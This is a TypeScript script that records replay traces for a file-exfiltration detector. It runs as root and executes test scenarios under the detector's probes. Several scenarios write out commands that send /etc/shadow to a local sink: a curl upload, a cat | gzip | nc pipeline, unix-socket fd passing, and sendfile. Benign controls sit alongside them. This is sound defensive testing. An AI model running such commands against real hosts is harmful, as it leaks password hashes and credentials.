/**
 * Records the replay library (`replays/`): real programs run under the real
 * probes with `watch --record`, each trace stored with the findings `watch`
 * printed live. `src/pipeline/replays.test.ts` replays every trace and
 * requires exactly those findings. Run as root after changing the probes,
 * the rules or the finding format:
 *
 *   npm run build && node dist/src/testing/record-replays.js
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runLiveSession } from '../pipeline/live-session.js';
import { packageDir } from '../util/package-dir.js';
import { httpSink, tcpSink } from './live-harness.js';
import { scmRightsScenario, sendfileScenario } from './scenarios.js';

const out = join(packageDir('replays', 'README.md') ?? 'replays');
mkdirSync(out, { recursive: true });
const http = await httpSink();
const tcp = await tcpSink();
const work = mkdtempSync(join(tmpdir(), 'cw-replays-'));
const note = join(work, 'notes.txt');
writeFileSync(note, 'meeting notes, nothing secret\n'.repeat(40));

const scenarios: { name: string; what: string; script: string }[] = [
  { name: 'curl-put-shadow', what: 'curl uploads /etc/shadow to 127.0.0.2 (one process)', script: `curl -s -m 10 -T /etc/shadow http://127.0.0.2:${http.port}/ -o /dev/null` },
  { name: 'pipeline-gzip-nc', what: 'cat /etc/shadow | gzip | nc 127.0.0.2 (three processes joined by pipes)', script: `cat /etc/shadow | gzip | nc -N 127.0.0.2 ${tcp.port}` },
  { name: 'scm-rights-send', what: 'a child opens /etc/shadow and passes the fd over a unix socket; the parent reads it and sends it', script: scmRightsScenario(join(work, 'pass.sock'), '/etc/shadow', tcp.port) },
  { name: 'sendfile-shadow', what: 'sendfile(2) from /etc/shadow into a socket: no read or write', script: sendfileScenario('/etc/shadow', tcp.port) },
  { name: 'benign-download', what: 'curl downloads a page and writes it to a file (must not fire)', script: `curl -s -m 10 -o ${join(work, 'page.html')} http://127.0.0.2:${http.port}/` },
  { name: 'benign-send-notes', what: 'a non-sensitive file sent to 127.0.0.2 (must not fire)', script: `curl -s -m 10 -T ${note} http://127.0.0.2:${http.port}/ -o /dev/null` },
];

for (const s of scenarios) {
  const trace = join(out, `${s.name}.trace.jsonl.gz`);
  const findings = join(out, `${s.name}.findings.jsonl`);
  const summary = await runLiveSession({ target: { mode: 'command', argv: ['bash', '-c', s.script] }, task: s.name, record: trace, findings });
  if (summary.lostEvents > 0 || summary.lateEvents > 0 || summary.commandExit?.code !== 0) {
    throw new Error(`${s.name}: lost ${summary.lostEvents}, late ${summary.lateEvents}, exit ${JSON.stringify(summary.commandExit)}: record again`);
  }
  process.stderr.write(`${s.name}: ${summary.events} events, ${summary.findings} findings — ${s.what}\n`);
}
await http.close();
await tcp.close();
